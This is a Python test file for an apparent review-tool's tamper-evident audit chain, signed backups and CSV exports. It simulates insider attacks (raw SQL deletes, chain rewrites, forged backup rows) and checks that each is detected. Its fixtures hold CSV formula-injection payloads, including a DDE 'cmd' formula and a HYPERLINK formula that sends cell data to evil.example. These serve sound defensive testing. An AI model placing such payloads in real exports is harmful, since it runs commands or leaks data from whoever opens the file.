"""Attacks on the audit trail, backups and CSV exports, run on SQLite and PostgreSQL: each is refused or
detected. The attacker here has database access (raw SQL) or shell access to backup files, not the key."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import stat
from pathlib import Path

import pytest
from sqlalchemy import text
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest
from typer.testing import CliRunner

from review_store import audit, releases, users
from review_store.audit import chain, keys
from review_store.audit.keys import AuditKey
from review_store.backup.archive import manifest_signed_text
from review_store.cli import app
from review_store.db import make_engine, read_session, session_scope
from review_store.errors import ValidationFailed
from review_store.exports import FORMULA_TRIGGERS
from review_store.models import AuditEvent, Setting
from review_store.permissions import SYSTEM
from tests import apptest
from tests.factories import make_user
from tests.test_releases import MANIFEST

runner = CliRunner()
EVIL_RELEASE = "=cmd|' /C calc'!A0"
EVIL_USER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FAKE_KEY = AuditKey(b"not-the-key-not-the-key-not-the-key!", "attacker")


def _world(engine, n: int = 5) -> None:
    """A few audited changes: users and events."""
    with session_scope(engine) as s:
        users.add_user(s, actor=SYSTEM, username="olga", role="owner", password="owner-pass-1")
    for i in range(n - 1):
        with session_scope(engine) as s:
            audit.record(
                s, actor=SYSTEM, action="thing.change", entity="thing", entity_id=i, payload={"i": i}
            )


def _verify(db_url: str, *extra: str) -> tuple[int, dict]:
    result = runner.invoke(app, ["--db", db_url, "audit", "verify", "--json", *extra])
    return result.exit_code, json.loads(result.output)


def _sql(engine, statement: str, **params) -> None:
    with engine.begin() as conn:
        conn.execute(text(statement), params)


def _checkpoint(db_url: str, path: Path) -> dict:
    result = runner.invoke(app, ["--db", db_url, "audit", "checkpoint", "--out", str(path), "--json"])
    assert result.exit_code == 0, result.output
    return json.loads(path.read_text())


# --- the chain ---------------------------------------------------------------------------------------


def test_intact_chain_verifies_keyed(engine, db_url):
    _world(engine)
    code, report = _verify(db_url)
    assert code == 0 and report["ok"] and report["checked"] == 5 and report["keyed"] == 5


def test_deleting_the_newest_events_and_the_head_is_detected(engine, db_url):
    _world(engine)
    _sql(engine, "DELETE FROM auditevent WHERE seq >= 4")
    _sql(engine, "DELETE FROM setting WHERE key = 'audit.head'")
    code, report = _verify(db_url)
    assert code == 1 and report["first_bad_seq"] == 4
    assert "head" in report["problem"] and "missing" in report["problem"]


def test_wiping_every_event_and_the_head_is_detected(engine, db_url):
    _world(engine)
    _sql(engine, "DELETE FROM auditevent")
    _sql(engine, "DELETE FROM setting WHERE key = 'audit.head'")
    code, report = _verify(db_url)
    assert code == 1 and "wiped" in report["problem"] and "'user'" in report["problem"]


def _rewrite(engine, *, from_seq: int, hasher, head_mac=None) -> None:
    """Edit seq 2's payload and recompute every hash from `from_seq` on, then point the head at the end."""
    _sql(engine, "UPDATE auditevent SET payload = :p WHERE seq = 2", p='{"i":"forged"}')
    with session_scope(engine) as s:
        events = list(chain.stream(s))
        prev = events[from_seq - 2].hash if from_seq > 1 else chain.GENESIS_HASH
        for event in events[from_seq - 1 :]:
            event.prev_hash = prev
            event.hash = hasher(prev, chain.event_text(event))
            s.add(event)
            prev = event.hash
        s.flush()
        value = {"seq": events[-1].seq, "hash": prev}
        if head_mac:
            value["mac"] = head_mac(events[-1].seq, prev)
        _sql_in(s, value)


def _sql_in(session, value: dict) -> None:
    head = session.get(Setting, "audit.head")
    head.value = value
    session.add(head)


def test_rewrite_with_a_recomputed_plain_chain_and_matching_head_is_detected(engine, db_url):
    _world(engine)
    _rewrite(engine, from_seq=1, hasher=chain.plain_hash)
    code, report = _verify(db_url)
    assert code == 1 and report["first_bad_seq"] == 1 and "none of the 5 events is keyed" in report["problem"]


def test_rewrite_recomputed_from_the_edit_on_is_named_by_seq(engine, db_url):
    _world(engine)
    _rewrite(engine, from_seq=2, hasher=chain.plain_hash)
    code, report = _verify(db_url)
    assert code == 1 and report["first_bad_seq"] == 2 and "keyed hash" in report["problem"]


def test_rewrite_with_another_key_and_a_head_signed_by_it_is_detected(engine, db_url):
    _world(engine)
    _rewrite(
        engine,
        from_seq=1,
        hasher=lambda prev, body: chain.keyed_hash(FAKE_KEY, prev, body),
        head_mac=lambda seq, digest: chain.head_mac(FAKE_KEY, seq, digest),
    )
    code, report = _verify(db_url)
    assert code == 1 and report["first_bad_seq"] == 1 and "another key" in report["problem"]


def test_a_forged_head_after_truncation_is_detected(engine, db_url):
    _world(engine)
    _sql(engine, "DELETE FROM auditevent WHERE seq = 5")
    with session_scope(engine) as s:
        fourth = s.exec(text("SELECT hash FROM auditevent WHERE seq = 4")).one()[0]
        _sql_in(s, {"seq": 4, "hash": fourth, "mac": "0" * 64})
    code, report = _verify(db_url)
    assert code == 1 and "not signed with the audit key" in report["problem"]


def test_a_replayed_old_head_needs_a_checkpoint_to_show(engine, db_url, tmp_path):
    """Someone who saved the head row earlier can truncate back to it: the head is genuine, so only a
    checkpoint kept outside the database shows the loss (documented in the README's security model)."""
    _world(engine, n=4)
    with read_session(engine) as s:
        saved = s.exec(text("SELECT value FROM setting WHERE key = 'audit.head'")).one()[0]
    with session_scope(engine) as s:
        audit.record(s, actor=SYSTEM, action="release.approve", entity="release", entity_id="r3")
    _checkpoint(db_url, tmp_path / "cp.json")
    _sql(engine, "DELETE FROM auditevent WHERE seq = 5")
    with session_scope(engine) as s:
        _sql_in(s, saved if isinstance(saved, dict) else json.loads(saved))
    assert _verify(db_url)[0] == 0  # the replay alone looks like an older, intact chain
    code, report = _verify(db_url, "--checkpoint", str(tmp_path / "cp.json"))
    assert code == 1 and report["first_bad_seq"] == 5 and "truncated" in report["problem"]


def test_wiping_the_whole_database_is_detected_by_a_checkpoint(engine, db_url, tmp_path):
    _world(engine)
    _checkpoint(db_url, tmp_path / "cp.json")
    for table in ("auditevent", "setting", '"user"'):
        _sql(engine, f"DELETE FROM {table}")
    assert _verify(db_url)[0] == 0  # an empty database is a valid empty chain on its own
    code, report = _verify(db_url, "--checkpoint", str(tmp_path / "cp.json"))
    assert code == 1 and "wiped" in report["problem"]


def test_a_checkpoint_detects_a_rewrite_it_covers_and_passes_growth(engine, db_url, tmp_path):
    _world(engine)
    cp = _checkpoint(db_url, tmp_path / "cp.json")
    assert cp["seq"] == 5 and len(cp["signature"]) == 64
    with session_scope(engine) as s:
        audit.record(s, actor=SYSTEM, action="thing.change", entity="thing")
    code, report = _verify(db_url, "--checkpoint", str(tmp_path / "cp.json"))
    assert code == 0 and report["checkpoint_seq"] == 5 and report["checked"] == 6


def test_an_edited_or_foreign_checkpoint_is_refused(engine, db_url, tmp_path):
    _world(engine)
    cp = _checkpoint(db_url, tmp_path / "cp.json")
    (tmp_path / "edited.json").write_text(json.dumps(cp | {"seq": 2}))
    code, report = _verify(db_url, "--checkpoint", str(tmp_path / "edited.json"))
    assert code == 1 and "signature does not verify" in report["problem"]
    (tmp_path / "foreign.json").write_text(json.dumps(cp | {"key_id": FAKE_KEY.key_id}))
    code, report = _verify(db_url, "--checkpoint", str(tmp_path / "foreign.json"))
    assert code == 1 and "another key" not in report["problem"] and FAKE_KEY.key_id in report["problem"]
    (tmp_path / "junk.json").write_text("{not json")
    result = runner.invoke(
        app, ["--db", db_url, "audit", "verify", "--checkpoint", str(tmp_path / "junk.json")]
    )
    assert result.exit_code == 2 and "junk.json" in result.output


def test_a_broken_chain_is_not_checkpointed(engine, db_url, tmp_path):
    _world(engine)
    _sql(engine, "UPDATE auditevent SET actor = 'mallory' WHERE seq = 3")
    result = runner.invoke(app, ["--db", db_url, "audit", "checkpoint", "--out", str(tmp_path / "cp.json")])
    assert result.exit_code == 1 and "broken chain" in result.output
    assert not (tmp_path / "cp.json").exists()


# --- the key -----------------------------------------------------------------------------------------


@pytest.fixture
def no_key_env(monkeypatch, tmp_path):
    """No key in the environment, and a private config dir (the team-mode default lives there)."""
    monkeypatch.delenv(keys.ENV_KEY, raising=False)
    monkeypatch.delenv(keys.ENV_KEY_FILE, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path / "config" / "review-desk" / "audit.key"


def test_without_a_key_laptop_mode_creates_one_and_team_mode_refuses(engine, db_url, no_key_env, monkeypatch):
    add = ["--db", db_url, "users", "add", "eve", "--role", "admin"]
    if not keys.is_team_mode(db_url):
        result = runner.invoke(app, add, input="a-good-password\n")
        assert result.exit_code == 0, result.output
        key_file = keys.default_path(db_url)
        assert key_file.name == "store.db.audit-key"
        assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
        assert _verify(db_url)[0] == 0
        return
    result = runner.invoke(app, add, input="a-good-password\n")
    assert (
        result.exit_code == 2 and "audit init-key" in result.output and "Nothing was written" in result.output
    )
    with read_session(engine) as s:
        assert s.exec(text('SELECT count(*) FROM "user"')).one()[0] == 0
        assert audit.count_events(s) == 0
    # the app says the same before anything else
    at = apptest.open_app(monkeypatch, db_url).run()
    assert at.error and "audit init-key" in at.error[0].value
    # the operator creates the key; from then on changes work and the chain is keyed
    result = runner.invoke(app, ["--db", db_url, "audit", "init-key", "--json"])
    assert result.exit_code == 0, result.output
    status = json.loads(result.output)
    assert status["created"] and status["source"] == str(no_key_env)
    assert stat.S_IMODE(no_key_env.stat().st_mode) == 0o600
    assert runner.invoke(app, add, input="a-good-password\n").exit_code == 0
    code, report = _verify(db_url)
    assert code == 0 and report["keyed"] == report["checked"] == 2  # audit.key_init, user.add


def test_a_key_file_other_users_can_read_is_refused(engine, monkeypatch, tmp_path):
    path = tmp_path / "audit.key"
    keys.write_key_file(path)
    os.chmod(path, 0o644)
    monkeypatch.delenv(keys.ENV_KEY, raising=False)
    monkeypatch.setenv(keys.ENV_KEY_FILE, str(path))
    with pytest.raises(ValidationFailed, match="chmod 600"):
        with session_scope(engine) as s:
            audit.record(s, actor=SYSTEM, action="thing.change", entity="thing")


def test_verify_without_the_key_cannot_vouch_for_a_keyed_chain(engine, db_url, no_key_env):
    with session_scope(engine) as s:
        for i in range(3):
            audit.record(s, actor=SYSTEM, action="thing.change", entity="thing", entity_id=i,
                         key=AuditKey(b"k" * 40, "test"))  # fmt: skip
    code, report = _verify(db_url)
    assert code == 1 and report["first_bad_seq"] == 1 and "no audit key" in report["problem"]


# --- backups -----------------------------------------------------------------------------------------


def _backup(db_url: str, out: Path) -> dict:
    result = runner.invoke(app, ["--db", db_url, "export", str(out), "--format", "jsonl"])
    assert result.exit_code == 0, result.output
    return json.loads((out / "manifest.json").read_text())


def _fix_checksum(out: Path, table: str) -> dict:
    manifest = json.loads((out / "manifest.json").read_text())
    data = (out / f"{table}.jsonl").read_bytes()
    manifest["tables"][table]["sha256"] = hashlib.sha256(data).hexdigest()
    (out / "manifest.json").write_text(json.dumps(manifest))
    return manifest


def _restore(out: Path, target: str, *extra: str):
    return runner.invoke(app, ["--db", target, "import-backup", str(out), *extra])


def _rows(url: str, table: str) -> int:
    engine = make_engine(url)
    try:
        with read_session(engine) as s:
            return s.exec(text(f'SELECT count(*) FROM "{table}"')).one()[0]
    except Exception:
        return 0
    finally:
        engine.dispose()


def test_an_edited_label_file_with_a_fixed_checksum_is_refused(demo_any_url, tmp_path):
    out = tmp_path / "backup"
    _backup(demo_any_url, out)
    lines = (out / "label.jsonl").read_text().splitlines()
    label = json.loads(lines[0])
    label["answers"] = {key: "forged" for key in label["answers"]}
    (out / "label.jsonl").write_text("\n".join([json.dumps(label), *lines[1:]]) + "\n")
    _fix_checksum(out, "label")
    target = f"sqlite:///{tmp_path / 'restored.db'}"
    result = _restore(out, target)
    assert result.exit_code == 2 and "signature does not verify" in result.output
    assert _rows(target, "label") == 0


def _forge_audit_row(out: Path) -> None:
    lines = (out / "auditevent.jsonl").read_text().splitlines()
    event = json.loads(lines[1])
    event["actor"] = "mallory"
    lines[1] = json.dumps(event)
    (out / "auditevent.jsonl").write_text("\n".join(lines) + "\n")


def test_a_forged_audit_row_is_refused_even_in_a_correctly_signed_backup(engine, db_url, tmp_path):
    """An insider holding the key re-signs a backup with a forged event: restore verifies the chain."""
    _world(engine)
    out = tmp_path / "backup"
    _backup(db_url, out)
    _forge_audit_row(out)
    manifest = _fix_checksum(out, "auditevent")
    assert _restore(out, f"sqlite:///{tmp_path / 'a.db'}").exit_code == 2  # signature no longer matches
    key = keys.load(db_url)
    manifest["signature"]["hmac"] = key.mac("backup", manifest_signed_text(manifest))
    (out / "manifest.json").write_text(json.dumps(manifest))
    target = f"sqlite:///{tmp_path / 'b.db'}"
    result = _restore(out, target)
    assert result.exit_code == 2 and "restored audit chain does not verify" in result.output
    assert "seq 2" in result.output and _rows(target, "auditevent") == 0 and _rows(target, "user") == 0


def test_an_unsigned_backup_is_refused_and_its_chain_still_verified(engine, db_url, tmp_path):
    _world(engine)
    out = tmp_path / "backup"
    manifest = _backup(db_url, out)
    manifest.pop("signature")
    (out / "manifest.json").write_text(json.dumps(manifest))
    result = _restore(out, f"sqlite:///{tmp_path / 'a.db'}")
    assert result.exit_code == 2 and "not signed" in result.output
    _forge_audit_row(out)
    _fix_checksum(out, "auditevent")
    target = f"sqlite:///{tmp_path / 'b.db'}"
    result = _restore(out, target, "--accept-unsigned")
    assert result.exit_code == 2 and "does not verify" in result.output and _rows(target, "user") == 0


def test_a_backup_restores_elsewhere_only_with_the_source_key(engine, db_url, tmp_path, no_key_env):
    source_key = tmp_path / "source.key"
    keys.write_key_file(source_key)
    with session_scope(engine) as s:
        audit.record(
            s, actor=SYSTEM, action="thing.change", entity="thing", key=keys.read_key_file(source_key)
        )
    os.environ[keys.ENV_KEY_FILE] = str(source_key)
    try:
        out = tmp_path / "backup"
        _backup(db_url, out)
    finally:
        del os.environ[keys.ENV_KEY_FILE]
    target = f"sqlite:///{tmp_path / 'restored.db'}"
    result = _restore(out, target)
    assert result.exit_code == 2 and "no audit key" in result.output
    result = _restore(out, target, "--key-file", str(source_key))
    assert result.exit_code == 0, result.output
    assert keys.default_path(target).read_text() == source_key.read_text()  # installed for the new file
    assert _verify(target)[0] == 0


# --- CSV formula injection ---------------------------------------------------------------------------


def _evil_release(engine) -> None:
    """A release named like a formula (names are free text), and an audit row whose actor is a formula
    username written straight into the table by someone with database access (the store itself refuses
    such usernames: see test_a_formula_username_is_refused)."""
    with session_scope(engine) as s:
        author = make_user(s, role="owner", username="olga")
        releases.create_release(s, actor=author, name=EVIL_RELEASE, manifest=MANIFEST)
        last = chain.last_event(s)
        s.add(
            AuditEvent(seq=last.seq + 1, ts=last.ts, actor=EVIL_USER, action="release.approve",
                       entity="release", entity_id=EVIL_RELEASE, payload="{}", prev_hash=last.hash,
                       hash="f" * 64)
        )  # fmt: skip


def _assert_inert(data: str) -> list[list[str]]:
    cells = list(csv.reader(io.StringIO(data)))
    for row in cells:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), f"live formula cell: {cell!r}"
    return cells


def test_a_formula_username_is_refused(db_url):
    result = runner.invoke(app, ["--db", db_url, "users", "add", EVIL_USER, "--role", "admin"],
                           input="a-good-password\n")  # fmt: skip
    assert result.exit_code == 2 and "username" in result.output


def test_cli_audit_export_csv_neutralises_formulas(engine, db_url, tmp_path):
    _evil_release(engine)
    result = runner.invoke(app, ["--db", db_url, "audit", "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _assert_inert(result.output)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert records[0]["action"] == "release.create" and records[0]["entity_id"] == "'" + EVIL_RELEASE
    assert records[1]["actor"] == "'" + EVIL_USER
    assert _verify(db_url)[0] == 1  # and the forged row breaks the chain


@pytest.fixture
def captured_downloads(monkeypatch) -> dict[str, bytes]:
    """What AppTest's download buttons would serve, by URL (AppTest keeps no media after a run)."""
    served: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def spy(self, path_or_data, mimetype, kind, filename=None):
        file_id = original(self, path_or_data, mimetype, kind, filename)
        served[self.get_url(file_id)] = self._files_by_id[file_id].content
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", spy)
    return served


def _download(at: AppTest, served: dict[str, bytes], label: str) -> str:
    button = next(b for b in at.get("download_button") if b.proto.label == label)
    return served[button.proto.url].decode("utf-8")


def test_audit_page_download_csv_neutralises_formulas(engine, db_url, monkeypatch, captured_downloads):
    _evil_release(engine)
    with session_scope(engine) as s:
        users.add_user(s, actor=SYSTEM, username="ada", role="admin", password="admin-pass-1")
    at = apptest.open_app(monkeypatch, db_url, "ada").run()
    at.switch_page(apptest.page("audit")).run()
    assert not at.exception
    rows = _assert_inert(_download(at, captured_downloads, "Download CSV"))
    assert rows[1][3:6] == ["release.create", "release", "'" + EVIL_RELEASE]
    assert rows[2][2:4] == ["'" + EVIL_USER, "release.approve"]
    at.button(key="audit_verify").click().run()
    assert at.error and "BROKEN at seq 2" in at.error[0].value


def _table_app() -> None:
    import pandas as pd

    from app import widgets

    frame = pd.DataFrame(
        {"release": ["=cmd|' /C calc'!A0", "r2"], "owner": ['=HYPERLINK("http://x","y")', "@SUM(A1)"],
         "delta": [-0.25, 0.5], "note": ["-2+3", "\tx"]}
    )  # fmt: skip
    widgets.table_with_download(frame, key="t", file_name="t.csv")


def test_every_table_download_goes_through_the_neutralising_writer(captured_downloads):
    at = AppTest.from_function(_table_app, default_timeout=30).run()
    assert not at.exception
    rows = list(csv.reader(io.StringIO(_download(at, captured_downloads, "Download CSV"))))
    assert rows[0] == ["release", "owner", "delta", "note"]
    assert rows[1] == ["'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://x","y")', "-0.25", "'-2+3"]
    assert rows[2] == ["r2", "'@SUM(A1)", "0.5", "'\tx"]


def test_no_page_writes_csv_around_the_one_writer():
    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(p.relative_to(root))
        for d in ("app", "pages")
        for p in (root / d).rglob("*.py")
        if ".to_csv(" in p.read_text() or "csv.writer" in p.read_text()
    ]
    assert not offenders, f"CSV written without review_store.exports (formula injection): {offenders}"
